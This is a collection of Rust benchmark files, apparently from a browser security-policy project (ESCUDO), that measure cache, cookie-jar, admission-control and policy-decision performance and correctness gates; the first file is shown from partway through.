    println!("control-plane health: {health}");
    json.int("cp_health", health.code());
}

#[allow(clippy::too_many_lines)]
fn main() {
    let args: Vec<String> = std::env::args().collect();
    let storm_threads = parse_flag(&args, "--threads", 8).max(1);
    let batches = parse_flag(&args, "--batches", 60).max(10);
    let passes = parse_flag(&args, "--passes", 200).max(20);
    println!(
        "tenant_concurrent: {storm_threads} storm threads, {batches} victim batches per repeat, \
         {passes} reload passes per reader"
    );

    let mut failed = false;
    let mut json = JsonReport::new("tenant_concurrent");
    let hardware_threads =
        std::thread::available_parallelism().map_or(1, std::num::NonZeroUsize::get);
    json.int("storm_threads", storm_threads as u64)
        .int("victim_batches", batches as u64)
        .int("reload_passes", passes as u64)
        .int("hardware_threads", hardware_threads as u64);

    // --------------------------------------------------------- isolation gate
    let neighbor = run_noisy_neighbor(storm_threads, batches, 5);
    let degradation = neighbor.contended_p99_ns as f64 / neighbor.baseline_p99_ns.max(1) as f64;
    println!(
        "victim p99: {} ns alone, {} ns under the {}-thread storm ({degradation:.2}x); \
         hit rate {:.4}, {} victim evictions; storm pushed {} decisions, {} self-evictions",
        neighbor.baseline_p99_ns,
        neighbor.contended_p99_ns,
        neighbor.storm_threads,
        neighbor.victim_hit_rate,
        neighbor.victim_evictions,
        neighbor.storm_decisions,
        neighbor.storm_evictions
    );
    json.int("neighbor_baseline_p99_ns", neighbor.baseline_p99_ns)
        .int(
            "neighbor_baseline_p99_ns_spread",
            neighbor.baseline_p99_spread_ns,
        )
        .int("neighbor_contended_p99_ns", neighbor.contended_p99_ns)
        .int(
            "neighbor_contended_p99_ns_spread",
            neighbor.contended_p99_spread_ns,
        )
        .num("neighbor_degradation", degradation)
        .num("victim_hit_rate", neighbor.victim_hit_rate)
        .int("neighbor_eviction_violations", neighbor.victim_evictions)
        .int("storm_decisions", neighbor.storm_decisions);
    if neighbor.victim_evictions != 0 {
        eprintln!(
            "FAIL: the storm evicted {} entries from the victim tenant's cache — per-tenant \
             engines must be disjoint",
            neighbor.victim_evictions
        );
        failed = true;
    }
    if neighbor.victim_hit_rate < MIN_VICTIM_HIT_RATE {
        eprintln!(
            "FAIL: victim warm-cache hit rate {:.4} under the storm (floor: {MIN_VICTIM_HIT_RATE})",
            neighbor.victim_hit_rate
        );
        failed = true;
    }
    if hardware_threads < 2 {
        println!(
            "note: single hardware thread — the storm and the victim timeshare one core, so \
             the p99 ratio measures the OS scheduler, not tenant isolation; ratio gate skipped"
        );
    } else if degradation <= MAX_NEIGHBOR_P99_RATIO {
        println!(
            "ok: victim p99 within {MAX_NEIGHBOR_P99_RATIO:.1}x of baseline under the 10x storm"
        );
    } else {
        eprintln!(
            "FAIL: victim p99 degraded {degradation:.2}x under the storm (gate: ≤ \
             {MAX_NEIGHBOR_P99_RATIO:.1}x) — the noisy neighbor is stalling the victim's mediation"
        );
        failed = true;
    }

    // --------------------------------------------------------- admission gate
    let admission = run_admission_burst(64, 160);
    println!(
        "admission: burst {} / fired {} -> {} admitted, {} rejected, {} throttled denials",
        admission.burst,
        admission.fired,
        admission.admitted,
        admission.rejected,
        admission.throttled_denials
    );
    json.int("admission_burst", admission.burst)
        .int("admission_fired", admission.fired)
        .int("admission_admitted", admission.admitted)
        .int("admission_rejected", admission.rejected)
        .int("admission_throttled", admission.throttled_denials);
    let expected_shed = admission.fired - admission.burst;
    if admission.admitted != admission.burst
        || admission.rejected != expected_shed
        || admission.throttled_denials != expected_shed
    {
        eprintln!(
            "FAIL: token bucket not exactly countable (want {} admitted / {} shed, got {} / {} \
             with {} throttled denials)",
            admission.burst,
            expected_shed,
            admission.admitted,
            admission.rejected,
            admission.throttled_denials
        );
        failed = true;
    }

    // ----------------------------------------------------------- refill gate
    // 125 ms steps at 8 tokens/sec mint exactly one token per step (0.125 is
    // binary-exact), so the refilled bucket is as countable as the burst one.
    let refill = run_admission_refill(4, 8, 6, 125_000_000);
    let minted_per_step =
        (refill.step_ns as f64 / 1e9 * refill.refill_per_sec as f64).floor() as u64;
    let expected_admitted = refill.burst + refill.steps * minted_per_step;
    let expected_rejected = 1 + refill.steps;
    println!(
        "refill: burst {} + {} steps x {} minted -> {} admitted, {} rejected, {} throttled denials",
        refill.burst,
        refill.steps,
        minted_per_step,
        refill.admitted,
        refill.rejected,
        refill.throttled_denials
    );
    json.int("refill_burst", refill.burst)
        .int("refill_steps", refill.steps)
        .int("refill_minted_per_step", minted_per_step)
        .int("refill_admitted", refill.admitted)
        .int("refill_rejected", refill.rejected)
        .int("refill_throttled", refill.throttled_denials);
    if refill.admitted != expected_admitted
        || refill.rejected != expected_rejected
        || refill.throttled_denials != expected_rejected
    {
        eprintln!(
            "FAIL: refill not exactly countable under the manual clock (want {expected_admitted} \
             admitted / {expected_rejected} shed, got {} / {} with {} throttled denials)",
            refill.admitted, refill.rejected, refill.throttled_denials
        );
        failed = true;
    }

    // ------------------------------------------------------------ reload gate
    let reload = run_hot_reload_storm(storm_threads, passes, 9);
    println!(
        "hot reload: {} readers x {} passes across {} swaps -> {} decisions, {} torn plans, \
         {} dropped, {} generations observed, {} retired generations alive",
        reload.threads,
        reload.passes,
        reload.swaps,
        reload.decisions,
        reload.torn_plans,
        reload.dropped_decisions,
        reload.generations_seen,
        reload.retired_generations_alive
    );
    json.int("reload_decisions", reload.decisions)
        .int("reload_torn_plan_violations", reload.torn_plans)
        .int("reload_dropped_decisions", reload.dropped_decisions)
        .int("reload_generations_seen", reload.generations_seen as u64)
        .int(
            "reload_retired_leaks",
            reload.retired_generations_alive as u64,
        );
    if reload.torn_plans != 0 {
        eprintln!(
            "FAIL: {} plans matched neither generation's oracle — a reload tore a mediation \
             plan across generations",
            reload.torn_plans
        );
        failed = true;
    }
    if reload.dropped_decisions != 0 {
        eprintln!(
            "FAIL: {} plans dropped or throttled decisions across the generation swap (gate: 0)",
            reload.dropped_decisions
        );
        failed = true;
    }
    if reload.retired_generations_alive != 0 {
        eprintln!(
            "FAIL: {} retired engine generations still alive after all readers dropped — the \
             handle is leaking old generations",
            reload.retired_generations_alive
        );
        failed = true;
    }

    // ------------------------------------------------------- snapshot export
    export_snapshot(&mut json);

    json.flag("gates_passed", !failed);
    json.write_if_requested(&args);
    if failed {
        std::process::exit(1);
    }
}
