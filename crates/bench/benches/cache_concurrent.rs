//! The mediation-keyed shared response cache under its acceptance gates:
//! repeat-navigation speedup, cache-on-vs-off matrix invariance, cookie-header
//! key isolation, exactly-countable TTL expiry, and single-flight coalescing.
//!
//! Run with `cargo bench --bench cache_concurrent` (optionally
//! `-- --threads N --passes P --json path`). This is a plain `harness = false`
//! binary; it exits non-zero if a behavioural gate fails:
//!
//! * **speedup gate** — at 200µs origin latency a cache-warm repeat navigation
//!   (document + three subresources, all `max-age`'d) must be at least
//!   **1.5×** faster than the cache-off run, and every warm fetch must be a
//!   cache hit — a hit is an `Arc` refcount bump, never a body copy,
//! * **matrix gate** — the full scenario registry replayed with every
//!   session's response cache enabled must match the cache-off replay
//!   cell-for-cell: verdicts **and** reference-monitor check/denial counts.
//!   The cache key is the mediation plan (method, URL, exact mediated
//!   `Cookie` header) and mediation always executes — only transport is
//!   skipped — so caching can never move an ESCUDO decision,
//! * **isolation gate** — N cache-enabled sessions with distinct session
//!   cookies sharing one fabric and one cacheable URL must observe **zero**
//!   foreign cookie echoes: an entry is served only under the exact header it
//!   was stored under, and discarded fail-closed otherwise,
//! * **TTL gate** — a `max-age=5` entry walked on a hand-advanced
//!   [`ManualClock`] must produce exactly one hit, one store and (after the
//!   first cycle) one expiry discard per cycle — no wall time enters the
//!   freshness check,
//! * **single-flight gate** — a plan repeating one uncacheable image URL must
//!   dispatch it once per batch, fan the response out to every duplicate
//!   slot, and still log each slot under its own sequence number.
//!
//! [`ManualClock`]: escudo_core::ManualClock

use escudo_bench::cache::{
    run_cache_isolation, run_cache_matrix_oracle, run_cache_single_flight, run_cache_speedup,
    run_cache_ttl_walk, CacheMatrixOracleReport, CACHE_GATE_LATENCY,
};
use escudo_bench::cli::{parse_flag, JsonReport};

/// Minimum cold-over-warm speedup of the cache-warm repeat navigation.
const MIN_CACHE_SPEEDUP: f64 = 1.5;

/// Identical image slots the single-flight page carries.
const SINGLE_FLIGHT_DUPLICATES: usize = 4;

#[allow(clippy::too_many_lines)]
fn main() {
    let args: Vec<String> = std::env::args().collect();
    let threads = parse_flag(&args, "--threads", 8).max(2);
    let passes = parse_flag(&args, "--passes", 30).max(3);
    println!("cache_concurrent: {threads} isolation sessions, {passes} repeat-navigation passes");

    let mut failed = false;
    let mut json = JsonReport::new("cache_concurrent");
    json.int("isolation_sessions", threads as u64)
        .int("cache_passes", passes as u64);

    // --------------------------------------------------------- speedup gate
    let speedup = run_cache_speedup(CACHE_GATE_LATENCY, passes);
    println!(
        "repeat navigation at {}µs origin latency: {:.0} ns cache-off, {:.0} ns cache-warm \
         ({:.2}x, {} hits / {} expected, {} responses stored)",
        CACHE_GATE_LATENCY.as_micros(),
        speedup.cold_ns,
        speedup.warm_ns,
        speedup.speedup(),
        speedup.hits,
        speedup.expected_hits(),
        speedup.stored
    );
    json.num("cache_cold_ns", speedup.cold_ns)
        .num("cache_warm_ns", speedup.warm_ns)
        .num("cache_speedup", speedup.speedup())
        .int("cache_warm_hits", speedup.hits)
        .int("cache_warm_stored", speedup.stored);
    if speedup.hits != speedup.expected_hits() {
        eprintln!(
            "FAIL: only {} of {} warm fetches hit the response cache",
            speedup.hits,
            speedup.expected_hits()
        );
        failed = true;
    }
    if speedup.speedup() >= MIN_CACHE_SPEEDUP {
        println!(
            "ok: the response cache speeds the repeat navigation up {:.2}x (gate: ≥ \
             {MIN_CACHE_SPEEDUP:.1}x)",
            speedup.speedup()
        );
    } else {
        eprintln!(
            "FAIL: cache-warm repeat navigation only {:.2}x faster (gate: ≥ \
             {MIN_CACHE_SPEEDUP:.1}x)",
            speedup.speedup()
        );
        failed = true;
    }

    // ---------------------------------------------------------- matrix gate
    let matrix = run_cache_matrix_oracle();
    let checks_cached = CacheMatrixOracleReport::total_checks(&matrix.cached);
    let checks_plain = CacheMatrixOracleReport::total_checks(&matrix.plain);
    let denials_cached = CacheMatrixOracleReport::total_denials(&matrix.cached);
    let denials_plain = CacheMatrixOracleReport::total_denials(&matrix.plain);
    println!(
        "cache-on matrix: {} cells vs {} cache-off, {} outcome mismatches, \
         checks {checks_cached} vs {checks_plain}, denials {denials_cached} vs \
         {denials_plain}; {} sessions did {} hits / {} stores / {} coalesced",
        matrix.cached.cells(),
        matrix.plain.cells(),
        matrix.outcome_mismatches(),
        matrix.sessions,
        matrix.cache_hits,
        matrix.cache_stored,
        matrix.cache_coalesced
    );
    json.int("matrix_cells", matrix.cached.cells() as u64)
        .int(
            "matrix_outcome_mismatches",
            matrix.outcome_mismatches() as u64,
        )
        .int(
            "matrix_unexpected_cached",
            matrix.cached.unexpected().len() as u64,
        )
        .int(
            "matrix_unexpected_plain",
            matrix.plain.unexpected().len() as u64,
        )
        .int("matrix_checks", checks_plain)
        .int("matrix_denials", denials_plain)
        .int("matrix_cache_hits", matrix.cache_hits)
        .int("matrix_cache_stored", matrix.cache_stored)
        .int("matrix_cache_coalesced", matrix.cache_coalesced);
    if matrix.cached.cells() != matrix.plain.cells()
        || matrix.outcome_mismatches() != 0
        || !matrix.cached.unexpected().is_empty()
        || !matrix.plain.unexpected().is_empty()
    {
        eprintln!(
            "FAIL: enabling the response cache moved {} matrix outcomes \
             ({} + {} unexpected verdicts) — caching must be mediation-invariant",
            matrix.outcome_mismatches(),
            matrix.cached.unexpected().len(),
            matrix.plain.unexpected().len()
        );
        failed = true;
    }
    if checks_cached != checks_plain || denials_cached != denials_plain {
        eprintln!(
            "FAIL: mediation counts moved under the cache (checks {checks_cached} vs \
             {checks_plain}, denials {denials_cached} vs {denials_plain}) — only transport \
             may be skipped, never a check"
        );
        failed = true;
    }

    // ------------------------------------------------------- isolation gate
    let isolation = run_cache_isolation(threads.min(8), 4);
    println!(
        "cache-enabled sessions on one fabric: {} sessions x {} rounds, {} foreign cookie \
         echoes, {} own-header hits, {} mismatched plans discarded fail-closed",
        isolation.sessions,
        isolation.rounds,
        isolation.violations,
        isolation.cache_hits,
        isolation.stale_discards
    );
    json.int("isolation_violations", isolation.violations as u64)
        .int("isolation_cache_hits", isolation.cache_hits)
        .int("isolation_stale_discards", isolation.stale_discards);
    if isolation.violations != 0 {
        eprintln!(
            "FAIL: {} page loads observed another session's cookie echo — a cache entry \
             crossed cookie headers",
            isolation.violations
        );
        failed = true;
    }

    // ------------------------------------------------------------- TTL gate
    let ttl = run_cache_ttl_walk(5);
    println!(
        "manual-clock TTL walk: {} cycles, {} hits, {} expiries, {} stores",
        ttl.cycles, ttl.hits, ttl.expired, ttl.stored
    );
    json.int("ttl_cycles", ttl.cycles as u64)
        .int("ttl_cache_hits", ttl.hits)
        .int("ttl_cache_expired", ttl.expired)
        .int("ttl_cache_stored", ttl.stored);
    let cycles = ttl.cycles as u64;
    if ttl.hits != cycles || ttl.expired != cycles - 1 || ttl.stored != cycles {
        eprintln!(
            "FAIL: TTL walk not exactly countable (expected {cycles} hits / {} expiries / \
             {cycles} stores, got {} / {} / {})",
            cycles - 1,
            ttl.hits,
            ttl.expired,
            ttl.stored
        );
        failed = true;
    }

    // --------------------------------------------------- single-flight gate
    let flight = run_cache_single_flight(SINGLE_FLIGHT_DUPLICATES, 3);
    println!(
        "single-flight: {} duplicate slots x {} loads -> {} origin dispatches, {} slots \
         coalesced, {} log entries",
        flight.duplicates, flight.loads, flight.dispatches, flight.coalesced, flight.logged
    );
    json.int("singleflight_duplicates", flight.duplicates as u64)
        .int("singleflight_loads", flight.loads as u64)
        .int("singleflight_dispatches", flight.dispatches)
        .int("singleflight_cache_coalesced", flight.coalesced)
        .int("singleflight_logged", flight.logged as u64);
    let loads = flight.loads as u64;
    let expected_coalesced = loads * (flight.duplicates as u64 - 1);
    let expected_logged = flight.loads * (1 + flight.duplicates);
    if flight.dispatches != loads
        || flight.coalesced != expected_coalesced
        || flight.logged != expected_logged
    {
        eprintln!(
            "FAIL: single-flight did not coalesce exactly (expected {loads} dispatches / \
             {expected_coalesced} coalesced / {expected_logged} logged, got {} / {} / {})",
            flight.dispatches, flight.coalesced, flight.logged
        );
        failed = true;
    }

    json.flag("gates_passed", !failed);
    json.write_if_requested(&args);
    if failed {
        std::process::exit(1);
    }
}
