//! Microbenchmark of the ESCUDO decision procedure itself (the cost the reference
//! monitor adds to every mediated operation).

use std::time::Duration;

use criterion::{criterion_group, criterion_main, Criterion};
use escudo_core::context::{ObjectContext, ObjectKind, PrincipalContext, PrincipalKind};
use escudo_core::{decide, Acl, Operation, Origin, PolicyMode, Ring};

fn policy_decide(c: &mut Criterion) {
    let origin = Origin::new("http", "forum.example", 80);
    let other = Origin::new("http", "evil.example", 80);
    let allow_principal = PrincipalContext::new(PrincipalKind::Script, origin.clone(), Ring::new(1));
    let deny_ring_principal = PrincipalContext::new(PrincipalKind::Script, origin.clone(), Ring::new(3));
    let deny_origin_principal = PrincipalContext::new(PrincipalKind::Script, other, Ring::new(0));
    let object = ObjectContext::new(ObjectKind::Cookie, origin, Ring::new(1))
        .with_acl(Acl::uniform(Ring::new(1)));

    let mut group = c.benchmark_group("policy_decide");
    group
        .warm_up_time(Duration::from_millis(300))
        .measurement_time(Duration::from_secs(2));
    group.bench_function("escudo_allow", |b| {
        b.iter(|| decide(PolicyMode::Escudo, &allow_principal, &object, Operation::Use))
    });
    group.bench_function("escudo_deny_ring_rule", |b| {
        b.iter(|| decide(PolicyMode::Escudo, &deny_ring_principal, &object, Operation::Use))
    });
    group.bench_function("escudo_deny_origin_rule", |b| {
        b.iter(|| decide(PolicyMode::Escudo, &deny_origin_principal, &object, Operation::Use))
    });
    group.bench_function("sop_allow", |b| {
        b.iter(|| decide(PolicyMode::SameOriginOnly, &allow_principal, &object, Operation::Use))
    });
    group.finish();
}

criterion_group!(benches, policy_decide);
criterion_main!(benches);
