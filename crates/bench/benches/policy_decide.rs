//! Microbenchmark of the policy-decision core: the raw decision procedure versus the
//! [`EscudoEngine`]'s cold (first-touch) and cached (repeated identical checks) paths,
//! plus batch mediation and the same-origin baseline.
//!
//! Run with `cargo bench --bench policy_decide`. This is a plain `harness = false`
//! binary (the container has no external bench harness); it reports nanoseconds per
//! decision and decisions per second for each path, and exits non-zero if the cached
//! path fails to beat the cold path on repeated identical checks.

use escudo_bench::cli::JsonReport;
use escudo_bench::measure::{measure_decision_paths, DecisionReport};
use escudo_bench::workload::decision_workload;

fn report_line(name: &str, ns: f64) {
    println!(
        "  {name:<28} {ns:>9.1} ns/decision  {:>12.0} decisions/s",
        DecisionReport::per_second(ns)
    );
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    // 24 × 24 distinct context pairs ≈ a heavy multi-region page; 3 ops interleaved.
    let workload = decision_workload(24, 24);
    println!(
        "policy_decide: {} checks per pass ({} principals × {} objects)",
        workload.len(),
        24,
        24
    );

    // Warm the allocator and branch predictors once before timing.
    let _ = measure_decision_paths(&workload, 1);
    let report = measure_decision_paths(&workload, 9);

    println!("cold vs cached decision paths:");
    report_line("escudo_engine_cold", report.cold_ns);
    report_line("escudo_engine_cached", report.cached_ns);
    report_line("escudo_engine_batch_cached", report.batch_cached_ns);
    report_line("decide_free_function", report.free_fn_ns);
    report_line("same_origin_baseline", report.sop_ns);
    println!(
        "  cached speedup over cold: {:.2}x (cache hit rate {:.1}%)",
        report.speedup(),
        report.hit_rate * 100.0
    );

    let mut json = JsonReport::new("policy_decide");
    json.num("cold_ns_per_decision", report.cold_ns)
        .num("cached_ns_per_decision", report.cached_ns)
        .num("batch_cached_ns_per_decision", report.batch_cached_ns)
        .num("free_fn_ns_per_decision", report.free_fn_ns)
        .num("sop_ns_per_decision", report.sop_ns)
        .num("cached_speedup", report.speedup())
        .num("hit_rate", report.hit_rate)
        .flag("gates_passed", report.hit_rate >= 0.9);
    json.write_if_requested(&args);

    // The hard gate is behavioural (cache hits actually happen on repeated identical
    // checks) — wall-clock comparisons stay informational so a noisy CI runner cannot
    // fail the build without a real defect.
    if report.hit_rate < 0.9 {
        eprintln!(
            "FAIL: warm-engine cache hit rate {:.1}% < 90% — repeated identical checks \
             are not being served from the cache",
            report.hit_rate * 100.0
        );
        std::process::exit(1);
    }
    if report.cached_ns >= report.cold_ns {
        eprintln!(
            "WARN: cached path ({:.1} ns) did not beat cold path ({:.1} ns) on this run \
             (timing noise?)",
            report.cached_ns, report.cold_ns
        );
    } else {
        println!("ok: cached path is measurably faster than cold");
    }
}
