//! Concurrent decision throughput of the sharded engine: N OS threads hammering one
//! shared [`EscudoEngine`] with the standard decision workload, plus the end-to-end
//! multi-session (forum/blog/calendar) workload.
//!
//! Run with `cargo bench --bench policy_concurrent` (optionally
//! `-- --threads N --passes K`). This is a plain `harness = false` binary; it reports
//! aggregate decisions/second at 1/2/4/8 threads and exits non-zero if the
//! behavioural gate fails:
//!
//! * steady-state cache hit rate must be ≥ 95% at every thread count (the shared
//!   warm cache really is shared), and
//! * multi-thread aggregate throughput must not collapse below single-thread
//!   throughput (no global-lock convoy: the sharded engine keeps threads off each
//!   other's locks). A small tolerance absorbs scheduler noise on starved CI
//!   runners; the strict comparison is printed either way.

use std::sync::Arc;

use escudo_bench::cli::{no_collapse_gate, parse_flag, JsonReport};
use escudo_bench::concurrent::{best_throughput, run_concurrent_sessions, ThroughputSample};
use escudo_bench::workload::decision_workload;
use escudo_core::EscudoEngine;

/// Fraction of single-thread throughput the multi-thread aggregate must retain.
/// A global-mutex engine loses far more than this to lock convoying once threads
/// contend; scheduler noise on a shared runner loses far less.
const NO_COLLAPSE_FRACTION: f64 = 0.85;
const MIN_STEADY_STATE_HIT_RATE: f64 = 0.95;

fn report_line(sample: &ThroughputSample) {
    println!(
        "  {: >2} thread(s)  {: >9.1} ns/decision  {: >12.0} decisions/s  hit rate {:5.1}%",
        sample.threads,
        sample.ns_per_decision(),
        sample.decisions_per_sec(),
        sample.hit_rate * 100.0
    );
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let max_threads = parse_flag(&args, "--threads", 8).max(1);
    // Total passes over the workload per timed window, *split across* the threads —
    // every thread count does the same total work, so the timed windows have equal
    // duration and best-of-N sampling is unbiased across configurations (shorter
    // windows have noisier minima, which would flatter the single-thread baseline).
    let total_passes = parse_flag(&args, "--passes", 800).max(1);

    // Same shape as `policy_decide`: 24 × 24 distinct context pairs, 3 ops.
    let workload = decision_workload(24, 24);
    let thread_counts: Vec<usize> = [1usize, 2, 4, 8]
        .into_iter()
        .filter(|t| *t <= max_threads)
        .collect();
    println!(
        "policy_concurrent: {} checks/pass, {total_passes} passes split per thread count, \
         threads {:?}",
        workload.len(),
        thread_counts
    );

    // Warm-up pass for allocator and branch predictors before any timed window.
    let _ = best_throughput(&workload, 1, total_passes / 4, 1);

    println!("aggregate cached-decision throughput (shared sharded engine):");
    let mut samples = Vec::new();
    for &threads in &thread_counts {
        let sample = best_throughput(&workload, threads, (total_passes / threads).max(1), 5);
        report_line(&sample);
        samples.push(sample);
    }

    // ------------------------------------------------------------- behavioural gate
    let mut failed = false;
    for sample in &samples {
        if sample.hit_rate < MIN_STEADY_STATE_HIT_RATE {
            eprintln!(
                "FAIL: steady-state hit rate {:.1}% < {:.0}% at {} thread(s) — the shared \
                 warm cache is not being hit",
                sample.hit_rate * 100.0,
                MIN_STEADY_STATE_HIT_RATE * 100.0,
                sample.threads
            );
            failed = true;
        }
    }

    let gate_samples: Vec<(usize, f64)> = samples
        .iter()
        .map(|s| (s.threads, s.decisions_per_sec()))
        .collect();
    failed |= no_collapse_gate("decision", &gate_samples, NO_COLLAPSE_FRACTION);

    // --------------------------------------------- end-to-end multi-session workload
    let session_threads = max_threads.clamp(2, 4);
    let engine = Arc::new(EscudoEngine::new());
    let report = run_concurrent_sessions(&engine, session_threads, 3);
    let stats = &report.stats;
    println!(
        "multi-session workload: {} sessions × {} rounds, {} page loads, {} checks \
         ({} denials), engine hit rate {:.1}% over {} shards ({} evictions)",
        report.threads,
        report.rounds,
        report.page_loads(),
        report.checks(),
        report.denials(),
        stats.hit_rate() * 100.0,
        stats.shards.len(),
        stats.evictions,
    );
    println!(
        "interner occupancy: {} principals + {} objects, {} CAS retries, max bucket depth {}",
        stats.interned_principals,
        stats.interned_objects,
        stats.interner_cas_retries,
        stats.interner_max_bucket_depth,
    );
    if stats.decisions != stats.cache_hits + stats.cache_misses {
        eprintln!(
            "FAIL: inconsistent engine stats after concurrent sessions: {} decisions vs \
             {} hits + {} misses",
            stats.decisions, stats.cache_hits, stats.cache_misses
        );
        failed = true;
    }
    if report.checks() == 0 {
        eprintln!("FAIL: the multi-session workload performed no mediation at all");
        failed = true;
    }

    let mut json = JsonReport::new("policy_concurrent");
    for sample in &samples {
        json.num(
            &format!("decisions_per_sec_t{}", sample.threads),
            sample.decisions_per_sec(),
        )
        .num(&format!("hit_rate_t{}", sample.threads), sample.hit_rate);
    }
    json.int("session_page_loads", report.page_loads())
        .int("session_checks", report.checks())
        .num("session_hit_rate", stats.hit_rate())
        .int("interned_principals", stats.interned_principals)
        .int("interned_objects", stats.interned_objects)
        .int("interner_cas_retries", stats.interner_cas_retries)
        .int("interner_max_bucket_depth", stats.interner_max_bucket_depth)
        .flag("gates_passed", !failed);
    json.write_if_requested(&args);

    if failed {
        std::process::exit(1);
    }
}
