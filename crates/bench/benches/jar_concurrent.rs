//! Concurrent throughput and correctness of the shared, host-sharded cookie jar:
//! N OS threads building `Cookie` headers against one [`SharedCookieJar`], plus the
//! end-to-end shared-jar multi-session browser workload and the single-threaded
//! oracle equivalence check.
//!
//! Run with `cargo bench --bench jar_concurrent` (optionally
//! `-- --threads N --passes K`). This is a plain `harness = false` binary; it
//! reports aggregate header builds/second at 1/2/4/8 threads and exits non-zero if
//! the behavioural gate fails:
//!
//! * multi-thread aggregate header-build throughput must not collapse below 85% of
//!   single-thread (no global-lock convoy: the host-sharded jar keeps sessions off
//!   each other's locks),
//! * the 8-thread shared-jar session run must be **byte-identical** to a
//!   single-threaded `CookieJar` oracle replaying each session's operations, and
//! * the full-browser shared-jar workload must attach every session's cookies with
//!   zero cross-session (cross-host) leakage.

use std::sync::Arc;

use escudo_bench::cli::{no_collapse_gate, parse_flag, JsonReport};
use escudo_bench::concurrent::{
    best_jar_throughput, run_jar_oracle_sessions, run_shared_jar_sessions, JarThroughputSample,
};
use escudo_core::EscudoEngine;
use escudo_net::SharedCookieJar;

/// Fraction of single-thread throughput the multi-thread aggregate must retain.
/// A single-mutex jar loses far more than this to lock convoying once threads
/// contend; scheduler noise on a shared runner loses far less.
const NO_COLLAPSE_FRACTION: f64 = 0.85;

/// Thread count of the oracle equivalence run (the acceptance gate is specified at
/// 8 threads regardless of how many threads the throughput sweep covers).
const ORACLE_THREADS: usize = 8;

fn report_line(sample: &JarThroughputSample) {
    println!(
        "  {: >2} thread(s)  {: >9.1} ns/header  {: >12.0} headers/s",
        sample.threads,
        sample.ns_per_header(),
        sample.headers_per_sec(),
    );
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let max_threads = parse_flag(&args, "--threads", 8).max(1);
    // Total passes over the request-URL list per timed window, *split across* the
    // threads — every thread count does the same total work, so the timed windows
    // have equal duration and best-of-N sampling is unbiased across configurations.
    let total_passes = parse_flag(&args, "--passes", 400).max(1);

    // 16 hosts × 6 cookies under mixed path scopes; 2 request URLs per host.
    const HOSTS: usize = 16;
    const COOKIES_PER_HOST: usize = 6;
    let thread_counts: Vec<usize> = [1usize, 2, 4, 8]
        .into_iter()
        .filter(|t| *t <= max_threads)
        .collect();
    println!(
        "jar_concurrent: {HOSTS} hosts x {COOKIES_PER_HOST} cookies, {} headers/pass, \
         {total_passes} passes split per thread count, threads {thread_counts:?}",
        HOSTS * 2
    );

    // Warm-up pass for allocator and branch predictors before any timed window.
    let _ = best_jar_throughput(HOSTS, COOKIES_PER_HOST, 1, total_passes / 4, 1);

    println!("aggregate Cookie-header build throughput (shared host-sharded jar):");
    let mut samples = Vec::new();
    for &threads in &thread_counts {
        let sample = best_jar_throughput(
            HOSTS,
            COOKIES_PER_HOST,
            threads,
            (total_passes / threads).max(1),
            5,
        );
        report_line(&sample);
        samples.push(sample);
    }

    // ------------------------------------------------------------- behavioural gate
    let gate_samples: Vec<(usize, f64)> = samples
        .iter()
        .map(|s| (s.threads, s.headers_per_sec()))
        .collect();
    let mut failed = no_collapse_gate("header", &gate_samples, NO_COLLAPSE_FRACTION);

    // --------------------------------------------------- single-threaded oracle gate
    let oracle = run_jar_oracle_sessions(ORACLE_THREADS, 25);
    println!(
        "oracle equivalence: {} sessions, {} headers, {} mismatches vs the single-threaded \
         CookieJar replay",
        oracle.threads, oracle.headers, oracle.mismatches
    );
    if oracle.mismatches != 0 {
        eprintln!(
            "FAIL: {} of {} concurrent shared-jar headers differ from the single-threaded \
             oracle",
            oracle.mismatches, oracle.headers
        );
        failed = true;
    }

    // --------------------------------------------- end-to-end shared-jar sessions
    let session_threads = max_threads.clamp(2, 4);
    let engine = Arc::new(EscudoEngine::new());
    let jar = Arc::new(SharedCookieJar::new());
    let report = run_shared_jar_sessions(&engine, &jar, session_threads, 3);
    let stats = &report.jar_stats;
    println!(
        "shared-jar sessions: {} sessions x {} rounds, {} page loads, {} checks \
         ({} denials), jar {} stored / {} replaced / {} evicted over {} shards",
        report.threads,
        report.rounds,
        report.tallies.iter().map(|t| t.page_loads).sum::<u64>(),
        report.tallies.iter().map(|t| t.checks).sum::<u64>(),
        report.tallies.iter().map(|t| t.denials).sum::<u64>(),
        stats.stored,
        stats.replaced,
        stats.evicted,
        stats.shards.len(),
    );
    if report.sessions_with_cookies != report.threads {
        eprintln!(
            "FAIL: only {} of {} shared-jar sessions established their session cookie",
            report.sessions_with_cookies, report.threads
        );
        failed = true;
    }
    if report.isolation_violations != 0 {
        eprintln!(
            "FAIL: {} cookies leaked across session hosts in the shared jar",
            report.isolation_violations
        );
        failed = true;
    }

    let mut json = JsonReport::new("jar_concurrent");
    for sample in &samples {
        json.num(
            &format!("headers_per_sec_t{}", sample.threads),
            sample.headers_per_sec(),
        );
    }
    json.int("oracle_headers", oracle.headers)
        .int("oracle_mismatches", oracle.mismatches)
        .int(
            "session_isolation_violations",
            report.isolation_violations as u64,
        )
        .int("jar_stored", stats.stored)
        .int("jar_replaced", stats.replaced)
        .int("jar_evicted", stats.evicted)
        .flag("gates_passed", !failed);
    json.write_if_requested(&args);

    if failed {
        std::process::exit(1);
    }
}
