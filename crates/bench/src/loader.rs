//! The pipelined-subresource-loader workload: page loads whose `img` fetches fan
//! out over a shared [`SharedNetwork`] fabric with per-origin simulated latency.
//!
//! This module backs the `loader_concurrent` bench and its CI gate:
//!
//! * [`measure_page_loads`] / [`best_page_loads`] — timed page loads at a given
//!   worker-pool bound. Workers = 1 is the *sequential oracle*: the exact same
//!   plan-then-fetch code path, dispatched inline in document order.
//! * [`run_loader_oracle`] — runs the same workload pipelined and sequential on
//!   two identically-built fabrics (with *skewed* per-origin latencies, so the
//!   pipelined completion order differs maximally from document order) and
//!   compares the sequence-sorted request logs byte-for-byte plus the
//!   per-subresource attached cookie names.
//! * [`run_shared_fabric_sessions`] — N full browser sessions over **one** fabric,
//!   one jar and one engine (the shared-everything deployment `Browser::with_network`
//!   enables), with cross-session cookie leakage counted from the shared log.

use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use escudo_browser::Browser;
use escudo_core::config::CookiePolicy;
use escudo_core::{engine_for_mode, Acl, PolicyMode, Ring};
use escudo_net::{Request, Response, SetCookie, SharedCookieJar, SharedNetwork};

/// The page origin of the single-session loader workload.
pub const PAGE_ORIGIN: &str = "http://page.example";

